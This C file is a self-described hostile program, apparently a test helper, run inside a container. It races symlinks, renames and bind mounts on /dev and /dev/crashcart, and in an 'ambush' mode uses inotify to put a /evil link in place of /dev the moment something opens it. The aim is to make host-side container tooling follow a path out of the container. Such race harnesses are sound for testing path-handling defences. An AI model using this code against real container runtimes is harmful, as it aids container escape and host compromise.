/*
 * Hostile code in a container whose /dev is a plain directory of its root.
 *
 * swap rename: renames /dev/crashcart to and fro, for the moment between its being made and its being mounted on.
 * swap ambush: waits until somebody opens /dev, and then puts /evil in its place.
 * swap: swaps /dev and /dev/crashcart without a pause
 * between a directory, a link to /evil, a link to / and a mount. Told by a file /tmp/stop, it leaves them as they were.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void say(const char *text)
{
	puts(text);
	fflush(stdout);
}

static void ambush(void)
{
	char event[4096];
	int watch = inotify_init();
	inotify_add_watch(watch, "/dev", IN_OPEN);
	say("started");
	(void)!read(watch, event, sizeof event);
	rename("/dev", "/dev-away");
	symlink("/evil", "/dev");
	say("sprung");
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "ambush") == 0)
		ambush();
	say("started");
	while (argc > 1)
		if (rename("/dev/crashcart", "/dev/away") == 0)
			rename("/dev/away", "/dev/crashcart");
	for (unsigned i = 0;; i++) {
		switch (i % 5) {
		case 0:
			rename("/dev", "/dev-away");
			symlink("/evil", "/dev");
			unlink("/dev");
			rename("/dev-away", "/dev");
			break;
		case 1:
			symlink("/", "/dev/crashcart");
			unlink("/dev/crashcart");
			break;
		case 2:
			symlink("/evil/crashcart", "/dev/crashcart");
			unlink("/dev/crashcart");
			break;
		case 3:
			mkdir("/dev/crashcart", 0755);
			mount("/evil", "/dev/crashcart", NULL, MS_BIND, NULL);
			umount2("/dev/crashcart", MNT_DETACH);
			rmdir("/dev/crashcart");
			break;
		case 4:
			mount("/evil", "/dev", NULL, MS_BIND, NULL);
			umount2("/dev", MNT_DETACH);
			break;
		}
		if (access("/tmp/stop", F_OK) == 0) {
			say("stopped");
			for (;;)
				pause();
		}
		/* Stays as it should be for most of the time, or nobody would get in. */
		usleep(300);
	}
}
